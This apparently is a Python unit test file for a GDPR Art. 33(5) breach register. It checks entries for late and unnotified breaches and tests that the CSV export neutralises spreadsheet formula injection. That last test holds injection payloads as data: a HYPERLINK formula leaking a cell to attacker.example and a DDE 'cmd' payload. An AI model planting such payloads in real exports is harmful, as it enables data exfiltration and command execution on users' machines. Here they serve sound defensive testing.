"""The Art. 33(5) register: every breach, notified or not, and why not."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from incident.commands import ActOnObligation, CorrectFacts, OverrideRisk
from incident.decide import Rules, decide
from incident.model import Incident, fold
from incident.register import CSV_COLUMNS, csv_row, entry
from tests.unit.builders import T0, FakeCalendar, aware_incident, directory
from tests.unit.test_obligations import ART33

RULES = Rules(directory(), FakeCalendar())


def apply(state: Incident, command: object, at: timedelta) -> Incident:
    new = fold(state, decide(command, state, now=T0 + at, rules=RULES))  # type: ignore[arg-type]
    assert new is not None
    return new


def test_a_submitted_late_notification_is_on_the_register_with_its_reasons() -> None:
    state = aware_incident()
    for action, fields, at in (("approve", {}, 1), ("submit", {"channel": "email", "text": "Forensics"}, 80)):
        state = apply(state, ActOnObligation(incident_id=state.id, obligation=ART33, action=action, by="d",
                                             role="dpo", at=T0 + timedelta(hours=at), **fields),
                      timedelta(hours=at))
    e = entry(state)
    assert e["authority_notified"] and e["not_notified_because"] is None
    (o,) = e["obligations"]
    assert (o["status"], o["late"], o["delay_reasons"]) == ("submitted", True, "Forensics")
    row = csv_row(e)
    assert set(row) == set(CSV_COLUMNS) and "LATE" in row["obligations"] and row["authority_notified"] == "yes"


def test_an_unnotified_breach_says_why() -> None:
    start = aware_incident()
    changes = {"mitigations": ["data_recovered_and_deleted"], "recipients": "known", "malicious": False}
    correction = CorrectFacts(incident_id=start.id, changes=changes, by="alice", reason="laptop found unopened",
                              role="dpo")  # it lowers the risk: the DPO decides
    state = apply(start, correction, timedelta(hours=2))
    state = apply(state, OverrideRisk(incident_id=state.id, level="unlikely", by="dpo", role="dpo",
                                      justification="Device recovered sealed; no access possible."),
                  timedelta(hours=3))
    e = entry(state)
    assert not e["authority_notified"] and e["not_notified_because"] == "assessed unlikely to result in a risk"
    assert e["override"]["justification"].startswith("Device recovered")
    assert e["remedial_action"] == ["data_recovered_and_deleted"]
    assert e["assessment"]["reasoning"]


def test_the_csv_export_leaves_no_cell_for_a_spreadsheet_to_run() -> None:
    """OWASP's rule for CSV injection: a cell starting with = + - @ or a tab or carriage return is
    prefixed with a single quote; other cells are as they were."""
    from console.app import register_csv  # the export of the console and of `breach register`

    e = entry(aware_incident())
    e["controller"] = "=HYPERLINK(\"http://attacker.example/?\"&A1)"
    e["facts"]["breach_types"] = ["+cmd|' /C calc'!A0"]
    e["facts"]["data_categories"] = ["-2+3"]
    e["effects"] = ["@SUM(1+1)"]
    e["not_notified_because"] = "\t=1"
    e["assessment"] = {**(e["assessment"] or {}), "reasoning": "\r=1"}
    (row,) = csv.DictReader(io.StringIO(register_csv([e])))
    assert row["controller"] == "'=HYPERLINK(\"http://attacker.example/?\"&A1)"
    assert row["breach_types"] == "'+cmd|' /C calc'!A0" and row["data_categories"] == "'-2+3"
    assert row["effects"] == "'@SUM(1+1)" and row["not_notified_because"] == "'\t=1"
    assert row["assessment_reasoning"] == "'\r=1"
    assert row["reference"] == e["reference"] and row["status"] == e["status"]  # the rest unchanged
